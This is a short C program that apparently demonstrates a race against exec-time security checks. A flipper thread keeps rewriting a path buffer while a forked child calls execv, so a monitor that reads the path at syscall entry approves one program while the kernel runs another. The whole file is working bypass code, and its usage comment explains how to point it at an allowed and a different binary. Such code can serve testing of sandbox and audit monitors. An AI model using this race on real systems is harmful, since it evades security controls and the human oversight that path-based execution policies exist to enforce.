/* The exec race: a second thread rewrites the path buffer while the first calls execve.
 * The kernel reads the path after any check that read it at sys_enter, so a check by path
 * can be shown one program while the kernel runs another.
 *
 * Usage: exec_race ROUNDS ALLOWED OTHER
 * Each round forks a child whose flipper thread alternates the buffer between ALLOWED and
 * OTHER while the child execs whatever the buffer holds. Training: OTHER = ALLOWED. */
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

static char path[256];
static const char *allowed, *other;

static volatile int flipping;

static void *flip(void *arg) {
    (void)arg;
    flipping = 1;
    for (;;) {
        strcpy(path, other);
        strcpy(path, allowed);
    }
    return NULL;
}

int main(int argc, char **argv) {
    if (argc != 4)
        return 2;
    int rounds = atoi(argv[1]);
    allowed = argv[2];
    other = argv[3];
    for (int i = 0; i < rounds; i++) {
        pid_t p = fork();
        if (p == 0) {
            strcpy(path, allowed);
            pthread_t t;
            pthread_create(&t, NULL, flip, NULL);
            while (!flipping)
                ;
            char *args[] = {path, NULL};
            execv(path, args);
            _exit(127);
        }
        int status;
        waitpid(p, &status, 0);
    }
    return 0;
}
